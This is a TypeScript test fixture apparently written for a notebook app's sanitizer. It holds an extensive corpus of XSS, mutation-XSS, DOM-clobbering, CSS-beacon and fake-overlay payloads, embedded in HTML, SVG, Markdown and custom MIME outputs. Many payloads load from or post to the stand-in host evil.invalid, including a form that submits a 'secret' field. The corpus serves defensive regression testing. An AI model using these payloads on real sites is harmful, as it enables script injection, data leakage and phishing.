// An XSS / exfiltration corpus for saved outputs and Markdown (issue 9 "Untrusted content").
// Every payload that manages to run calls `__canary('<name>')` (a global the test defines) and
// most also try `alert()`; every payload that manages to load something points at
// http://evil.invalid/<name>, a host the test watches for. Both must stay silent.

const EVIL = 'http://evil.invalid';

/** HTML fragments: used as saved `text/html` outputs and as raw HTML inside Markdown cells. */
export const htmlPayloads: Record<string, string> = {
  'img-onerror': `<img src=x onerror="__canary('img-onerror');alert('img-onerror')">`,
  'img-onerror-unclosed': `<img src=x onerror=__canary('img-onerror-unclosed')//`,
  'svg-onload': `<svg onload="__canary('svg-onload')"></svg>`,
  'body-onload': `<body onload="__canary('body-onload')">`,
  'details-ontoggle': `<details open ontoggle="__canary('details-ontoggle')"><summary>s</summary>d</details>`,
  'div-onclick': `<div onclick="__canary('div-onclick')" onmouseover="__canary('div-onmouseover')">hover me</div>`,
  script: `<script>__canary('script');alert('script')</script>`,
  'script-src': `<script src="${EVIL}/script-src.js"></script>`,
  'javascript-link': `<a href="javascript:__canary('javascript-link')">javascript link</a>`,
  'javascript-link-entity': `<a href="JaVaScRiPt&colon;__canary('javascript-link-entity')">entity link</a>`,
  'javascript-link-spaces': `<a href=" &#x09;javascript:__canary('javascript-link-spaces')">spaced link</a>`,
  'vbscript-link': `<a href="vbscript:msgbox(1)">vbscript link</a>`,
  'data-link': `<a href="data:text/html,<script>opener.__canary('data-link')</script>">data link</a>`,
  'data-link-base64': `<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19jYW5hcnkoJ2RhdGEtbGluay1iNjQnKTwvc2NyaXB0Pg==">b64 link</a>`,
  'iframe-srcdoc': `<iframe srcdoc="<script>parent.__canary('iframe-srcdoc')</script>"></iframe>`,
  'iframe-javascript': `<iframe src="javascript:parent.__canary('iframe-javascript')"></iframe>`,
  'iframe-remote': `<iframe src="${EVIL}/iframe-remote"></iframe>`,
  base: `<base href="${EVIL}/base/"><img src="relative-after-base.png" alt="r"><a href="relative-link">relative</a>`,
  'meta-refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/meta-refresh">`,
  'meta-refresh-js': `<meta http-equiv="refresh" content="0;url=javascript:__canary('meta-refresh-js')">`,
  clobber: `<img id="__clobber" name="__clobber" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><form name="getElementById"></form><img name="cookie"><a id="defaultView" href="#x">c</a>`,
  'clobber-config': `<a id="__TORCHLIT_CONFIG" name="__TORCHLIT_CONFIG" href="${EVIL}/clobber">c</a><div id="root">fake root</div>`,
  'css-url': `<div style="background:url(${EVIL}/css-url)">css url</div>`,
  'css-url-escaped': `<div style="background-image:u\\72l(${EVIL}/css-url-escaped)">css escaped url</div>`,
  'css-image-set': `<div style="background-image:image-set('${EVIL}/css-image-set' 1x)">image-set</div>`,
  'css-expression': `<div style="width:expression(__canary('css-expression'))">expression</div>`,
  'style-import': `<style>@import url(${EVIL}/style-import.css);</style>`,
  'style-url': `<style>.tl-notebook{background:url(${EVIL}/style-url)}</style>`,
  'link-stylesheet': `<link rel="stylesheet" href="${EVIL}/link-stylesheet.css"><link rel="prefetch" href="${EVIL}/link-prefetch">`,
  object: `<object data="${EVIL}/object"></object><object data="javascript:__canary('object-js')"></object>`,
  embed: `<embed src="${EVIL}/embed"><embed src="javascript:__canary('embed-js')">`,
  form: `<form action="${EVIL}/form" method="post"><input name="q" value="secret"><button formaction="javascript:__canary('formaction')">send</button><input type="submit"></form>`,
  'form-autosubmit': `<form id="f1" action="${EVIL}/form-auto"></form><input form="f1" autofocus onfocus="this.form.submit()">`,
  'remote-img': `<img src="${EVIL}/remote-img.png" alt="remote">`,
  'remote-srcset': `<img srcset="${EVIL}/remote-srcset.png 1x" alt="srcset"><picture><source srcset="${EVIL}/picture-source.png"><img alt="p"></picture>`,
  'remote-media': `<video poster="${EVIL}/video-poster" src="${EVIL}/video-src"></video><audio src="${EVIL}/audio-src"></audio>`,
  'table-background': `<table background="${EVIL}/table-background"><tr><td>t</td></tr></table>`,
  'a-ping': `<a href="#ok" ping="${EVIL}/a-ping">ping</a>`,
  'input-image': `<input type="image" src="${EVIL}/input-image">`,
  mxss: `<math><mtext><table><mglyph><style><img src=x onerror="__canary('mxss')">`,
  'mxss-noscript': `<noscript><p title="</noscript><img src=x onerror=__canary('mxss-noscript')>">`,
  template: `<template><img src=x onerror="__canary('template')"></template>`,
  'svg-use-remote': `<svg><use href="${EVIL}/svg-use.svg#x"/><use xlink:href="${EVIL}/svg-use-xlink.svg#x"/></svg>`,
  'svg-use-data': `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='__canary(&quot;svg-use-data&quot;)'/&gt;&lt;/svg&gt;#x"/></svg>`,
  'svg-animate-href': `<svg><a><animate attributeName="href" values="javascript:__canary('svg-animate-href')"/><text x="20" y="20">click</text></a></svg>`,
  'svg-set': `<svg><set attributeName="onmouseover" to="__canary('svg-set')"/><animate onbegin="__canary('svg-onbegin')" attributeName="x" dur="1s"/></svg>`,
  'svg-foreignobject': `<svg><foreignObject width="100" height="50"><iframe srcdoc="<script>parent.__canary('svg-foreignobject')</script>"></iframe><img src=x onerror="__canary('svg-fo-img')"></foreignObject></svg>`,
  'svg-script': `<svg><script>__canary('svg-script')</script><script href="data:,__canary('svg-script-href')"/></svg>`,
  'svg-image': `<svg><image href="${EVIL}/svg-image"/><image xlink:href="${EVIL}/svg-image-xlink"/></svg>`,
  'svg-feimage': `<svg><filter id="f"><feImage href="${EVIL}/svg-feimage"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>`,
  'svg-style-import': `<svg><style>@import url(${EVIL}/svg-style-import.css);</style></svg>`,
  'svg-a-javascript': `<svg><a xlink:href="javascript:__canary('svg-a-javascript')"><text x="0" y="10">svg link</text></a><a href="javascript:__canary('svg-a-href')"><text x="0" y="20">svg link 2</text></a></svg>`,
  'math-href': `<math href="javascript:__canary('math-href')"><mi>x</mi></math>`,
  // Issue 22, hole 5: SVG presentation attributes and CSS that reference another site.
  'svg-presentation-urls': `<svg width="20" height="20"><rect width="5" height="5" fill="url(${EVIL}/svg-fill#a)" stroke="url(${EVIL}/svg-stroke#a)" mask="url(${EVIL}/svg-mask#m)" clip-path="url('${EVIL}/svg-clip#c')" filter="url(${EVIL}/svg-filter#f)" cursor="url(${EVIL}/svg-cursor.png), auto" marker-start="url(${EVIL}/svg-marker-start#m)" marker-mid="url(${EVIL}/svg-marker-mid#m)" marker-end="url(&quot;${EVIL}/svg-marker-end#m&quot;)"/><path d="M0 0L5 5" style="fill:url(${EVIL}/svg-style-fill#a);marker-end:url(${EVIL}/svg-style-marker#m)"/></svg>`,
  'css-url-variants': `<div style="background:URL(${EVIL}/css-url-upper)">u</div><div style="cursor:image-set('${EVIL}/css-cursor-set' 1x), auto">c</div><div style="mask-image:url( '${EVIL}/css-mask' )">m</div><div style="border-image:url(//evil.invalid/css-border) 30">b</div>`,
  'svg-cursor-image-set': `<svg><rect width="5" height="5" cursor="image-set('${EVIL}/svg-cursor-set' 1x), auto"/></svg>`,
};

/**
 * Issue 22, hole 4: content that draws over the app (fake "kernel crashed" UI over the name,
 * save status and toolbar). Each must stay inside its output's box.
 */
export const overlayPayloads: Record<string, string> = {
  'dialog-open': `<dialog open style="position:fixed;inset:0;margin:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Kernel crashed: click to re-authenticate</dialog><dialog open>plain open dialog</dialog>`,
  'position-fixed': `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">fixed fake UI</div>`,
  'position-absolute': `<div style="position:absolute;top:-3000px;left:0;width:100vw;height:4000px;z-index:9999;background:#fff">absolute fake UI</div>`,
  transform: `<div style="transform:translateY(-4000px);height:5000px;background:#fff">transformed fake UI</div><div style="translate:0 -4000px;height:5000px;background:#fff">translate</div><div style="-webkit-transform:scale(50)">scaled</div>`,
  'negative-margin': `<div style="margin-top:-5000px;height:6000px;background:#fff">margin fake UI</div><div style="margin:-3000px 0 0 0;height:4000px;background:#fff">margin shorthand</div><div style="margin-top:calc(0px - 100vh)">calc margin</div>`,
  'z-index-sticky': `<div style="position:sticky;top:0;z-index:2147483647;background:#fff">sticky</div><div style="z-index:99999">z</div>`,
  'float-inset': `<div style="float:left;margin-top:-400px">float</div><div style="inset:0">inset</div><div style="offset-path:path('M0 -3000');offset-distance:0">offset path</div>`,
  popover: `<div popover="manual" id="pop" style="inset:0">popover fake UI</div><button popovertarget="pop">open</button><a interestfor="pop" href="#x">hover</a>`,
  'svg-overflow': `<svg width="10" height="10" style="overflow:visible"><rect transform="translate(0,-4000)" width="6000" height="6000" fill="#fff"/></svg>`,
  'md-math-kern': `$\\kern-3000em\\raisebox{3000em}{fake}$`,
};

/** Standalone SVG documents: saved `image/svg+xml` outputs. */
export const svgPayloads: Record<string, string> = {
  'svg-doc-onload': `<svg xmlns="http://www.w3.org/2000/svg" onload="__canary('svg-doc-onload')"><rect width="5" height="5"/></svg>`,
  'svg-doc-script': `<svg xmlns="http://www.w3.org/2000/svg"><script>__canary('svg-doc-script')</script></svg>`,
  'svg-doc-foreign': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="__canary('svg-doc-foreign')"/></body></foreignObject></svg>`,
  'svg-doc-use': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="${EVIL}/svg-doc-use.svg#a"/></svg>`,
  'svg-doc-animate': `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" to="javascript:__canary('svg-doc-animate')"/><text y="10">a</text></a></svg>`,
  'svg-doc-image': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/svg-doc-image" width="5" height="5"/></svg>`,
  'svg-doc-style': `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${EVIL}/svg-doc-style.css); rect{fill:url(${EVIL}/svg-doc-fill)}</style><rect width="5" height="5" style="fill:url(${EVIL}/svg-doc-inline)"/></svg>`,
  'svg-doc-iframe': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.__canary('svg-doc-iframe')&lt;/script&gt;"></iframe></foreignObject></svg>`,
  'svg-doc-presentation': `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><defs><linearGradient id="ok"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="5" height="5" fill="url(${EVIL}/svg-doc-fill#a)" filter="url(${EVIL}/svg-doc-filter#f)" mask="url(${EVIL}/svg-doc-mask#m)"/><rect x="6" width="5" height="5" fill="url(#ok)"/></svg>`,
  'svg-doc-entity': `<!DOCTYPE svg [<!ENTITY x "<img src=x onerror=__canary('svg-doc-entity')>">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
};

/** Markdown-only constructs (the HTML payloads above are also put into Markdown cells). */
export const markdownPayloads: Record<string, string> = {
  'md-js-link': `[click](javascript:__canary('md-js-link'))`,
  'md-js-link-encoded': `[click](jav&#x09;ascript:__canary('md-js-link-encoded'))`,
  'md-data-link': `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  'md-ref-link': `[ref][r]\n\n[r]: javascript:__canary('md-ref-link')`,
  'md-autolink': `<javascript:__canary('md-autolink')>`,
  'md-remote-image': `![remote](${EVIL}/md-remote-image.png)`,
  'md-image-onerror': `![x" onerror="__canary('md-image-onerror')](x)`,
  'md-katex-href': `$\\href{javascript:__canary('md-katex-href')}{x}$ and $$\\url{javascript:__canary('md-katex-url')}$$`,
  'md-katex-html': `$\\htmlId{__clobber2}{x}\\htmlStyle{background:url(${EVIL}/md-katex-style)}{y}$ $$\\includegraphics{${EVIL}/md-katex-img.png}$$`,
  'md-math-placeholder': `KATEXMATH0X <img src=x onerror="__canary('md-math-placeholder')"> $x$`,
  'md-code-html': '```html\n<img src=x onerror="__canary(\'md-code-html\')">\n```',
};

/** Outputs of MIME types we do not render, or should never run. */
export const foreignBundles: Record<string, Record<string, unknown>> = {
  'unknown-with-plain': { 'application/x-evil': `<img src=x onerror="__canary('unknown-html')">`, 'text/plain': `<img src=x onerror="__canary('unknown-plain')">` },
  'unknown-alone': { 'application/x-evil+html': `<script>__canary('unknown-alone')</script>` },
  'application-javascript': { 'application/javascript': `__canary('application-javascript')`, 'text/plain': '<IPython.core.display.Javascript object>' },
  'text-markdown': { 'text/markdown': `<img src=x onerror="__canary('text-markdown')"> [x](javascript:__canary('text-markdown-link'))` },
  'text-latex': { 'text/latex': `\\href{javascript:__canary('text-latex')}{x}`, 'text/plain': 'latex' },
  'image-png-quote': { 'image/png': `x" onerror="__canary('image-png-quote')`, 'text/plain': 'png' },
  'json-html': { 'application/json': { html: `<img src=x onerror="__canary('json-html')">` } },
  // Our own view types, with hostile or malformed data (the training view draws SVG strings).
  'training-hostile': {
    'application/vnd.torchlit.training.v1+json': {
      title: `<img src=x onerror="__canary('training-title')">`,
      bins: 4,
      epochs: [1, 2],
      metrics: { loss: [1, 0.5] },
      hist_epochs: [`<img src=x onerror="__canary('training-epoch')">`, 2],
      params: [
        {
          name: `<img src=x onerror="__canary('training-name')">`,
          shape: [2],
          numel: 2,
          requires_grad: true,
          grads: [
            { lo: `"/><img src=x onerror="__canary('training-lo')">`, hi: 1, counts: [1, 2, 3, 4], mean: 0, std: 1, norm: 1, min: 0, max: 1, zeros: 0, nonfinite: 0, n: 10 },
            { lo: 0, hi: 1, counts: [`<img src=x onerror="__canary('training-count')">`], mean: 0, std: 1, norm: 1, min: 0, max: 1, zeros: 0, nonfinite: 0, n: 10 },
          ],
          weights: [null, null],
          hint: `<img src=x onerror="__canary('training-hint')">`,
        },
      ],
      total_epochs: 2,
      done: true,
      elapsed_s: 1,
    },
    'text/plain': 'training (hostile)',
  },
  'training-malformed': { 'application/vnd.torchlit.training.v1+json': { params: 'not a list' }, 'text/plain': 'training (malformed)' },
  'tensor-malformed': { 'application/vnd.torchlit.tensor.v1+json': { shape: 'x', values: { toString: 1 } }, 'text/plain': 'tensor (malformed)' },
  'module-malformed': { 'application/vnd.torchlit.module.v1+json': { children: 5 }, 'text/plain': 'module (malformed)' },
  'params-malformed': { 'application/vnd.torchlit.params.v1+json': { rows: [{ name: { x: 1 } }] }, 'text/plain': 'params (malformed)' },
  'plot-hostile': {
    'application/vnd.torchlit.plot.v1+json': { title: `<img src=x onerror="__canary('plot-title')">`, xlabel: '<b>x</b>', ylabel: 'y', series: [{ kind: 'hist', label: `<svg onload="__canary('plot-label')">`, x: [1, 'a'], y: [2, 3] }] },
    'text/plain': 'plot (hostile)',
  },
  'progress-malformed': { 'application/vnd.torchlit.progress.v1+json': { desc: `<img src=x onerror="__canary('progress')">`, n: 'x', total: {}, elapsed_s: 'y' }, 'text/plain': 'progress (malformed)' },
};
